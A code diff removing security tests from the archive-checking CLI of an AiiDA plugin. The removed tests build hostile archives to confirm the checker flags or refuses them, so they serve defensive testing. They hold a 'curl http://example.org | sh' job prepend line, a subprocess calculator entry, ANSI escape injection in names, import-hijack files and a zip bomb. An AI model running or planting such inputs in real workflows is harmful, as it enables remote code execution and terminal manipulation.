@@ -5,7 +5,6 @@ import zipfile
 
 import pytest
 from aiida import orm
-from aiida.common.links import LinkType
 from click.testing import CliRunner
 from support import handmade
 
@@ -14,7 +13,6 @@ from aiida_dismai.cli.archive.commands import check_archive, write_archive
 from aiida_dismai.cli.archive.graph import provenance, root_process
 from aiida_dismai.cli.archive.licence import licensed_content
 from aiida_dismai.data import StructureSetData
-from aiida_dismai.engine.errors import BadInput
 
 POTCAR = b""" PAW_PBE Li_sv 10Sep2004
  3.00000000000000
@@ -198,71 +196,3 @@ def test_create_does_not_overwrite_unasked(graph, tmp_path):
     assert path.read_text() == "mine"
     assert CliRunner().invoke(main, ["archive", "create", str(graph.dataset.pk), str(path), "--force"]).exit_code == 0
     assert zipfile.is_zipfile(path)
-
-
-def test_s1_what_a_rerun_would_execute_is_listed(graph, tmp_path):
-    inputs = {
-        "relax__job__parameters": orm.Dict(
-            {"calculator": "subprocess:check_output", "calculator_kwargs": {"args": "x"}}
-        ),
-        "quench__parameters": orm.Dict({"potential": "un\x1b[2Jknown"}),
-        "other__parameters": orm.Dict({"calculator": "edip"}),
-    }
-    evil = handmade.process(orm.WorkChainNode, handmade.WORKFLOWS + "dataset.amorphous", "Amorphous", inputs)
-    job = orm.CalcJobNode(process_type=handmade.CALCULATIONS + "relax")
-    job.set_option("prepend_text", "curl http://example.org | sh")
-    job.base.links.add_incoming(evil, LinkType.CALL_CALC, "job")
-    job.store().seal()
-    handmade.finish(evil, {"train": StructureSetData(handmade.structures(2, 5)).store()})
-    write_archive(evil, tmp_path / "evil.aiida")
-    found = {item["check"]: item for item in check_archive(tmp_path / "evil.aiida")}["what runs when it is run again"]
-    assert found["warning"]
-    assert "the function 'subprocess:check_output' of a Python module" in found["found"]
-    assert r"a calculator 'un\x1b[2Jknown' that is not registered here" in found["found"]
-    assert "text in the job's script: 'curl http://example.org | sh' (prepend_text)" in found["found"]
-    assert "edip" not in found["found"]
-    output = CliRunner().invoke(main, ["archive", "check", str(tmp_path / "evil.aiida")]).output
-    assert "\x1b" not in output
-    assert any(line.split()[:2] == ["!", "what"] for line in output.splitlines())
-
-
-def test_s1_registered_names_are_no_warning(archive):
-    found = {item["check"]: item for item in check_archive(archive)}["what runs when it is run again"]
-    assert (found["passed"], found["warning"], found["found"]) == (True, False, "registered names only")
-
-
-def test_s4_the_check_does_not_import_from_the_working_directory(archive, tmp_path, monkeypatch):
-    for name in ("zipfile", "json", "numpy", "sqlite3", "aiida_dismai", "sitecustomize"):
-        (tmp_path / f"{name}.py").write_text(f"open({str(tmp_path / 'executed')!r}, 'w')")
-    shutil.copy(archive, tmp_path / "a.aiida")
-    monkeypatch.chdir(tmp_path)
-    result = CliRunner().invoke(main, ["archive", "check", "a.aiida"])
-    assert result.exit_code == 0, result.output
-    assert not (tmp_path / "executed").exists()
-
-
-def test_exhaustion_an_archive_that_unpacks_to_gigabytes_is_refused(tmp_path, monkeypatch):
-    from aiida_dismai.cli.archive import verify
-
-    with zipfile.ZipFile(tmp_path / "bomb.aiida", "w", zipfile.ZIP_DEFLATED) as handle:
-        handle.writestr("metadata.json", "{}")
-        handle.writestr("repo/bomb", bytes(20_000_000))
-    monkeypatch.setattr(verify, "MAX_UNPACKED", 10_000_000)
-    with pytest.raises(BadInput, match=r"unpacks to 0.0 GB, more than 50 times its size"):
-        verify.open_archive(tmp_path / "bomb.aiida")
-    with zipfile.ZipFile(tmp_path / "words.aiida", "w", zipfile.ZIP_DEFLATED) as handle:
-        handle.writestr("metadata.json", "{" + " " * 2**21 + "}")
-    with pytest.raises(BadInput, match=r"its metadata.json is larger"):
-        verify.open_archive(tmp_path / "words.aiida")
-
-
-def test_s10_names_of_archives_are_text(archive, tmp_path):
-    path = tmp_path / "[bold]x[red]\x1b[2J.aiida"
-    shutil.copy(archive, path)
-    result = CliRunner().invoke(main, ["archive", "check", str(path)])
-    assert result.exit_code == 0, result.output
-    assert r"[bold]x[red]\x1b[2J.aiida" in result.output.replace("\n", "")
-    path.write_bytes(b"no archive")
-    result = CliRunner().invoke(main, ["archive", "check", str(path)])
-    assert "\x1b" not in result.output
-    assert r"x[red]\x1b[2J.aiida: not an AiiDA archive" in result.output
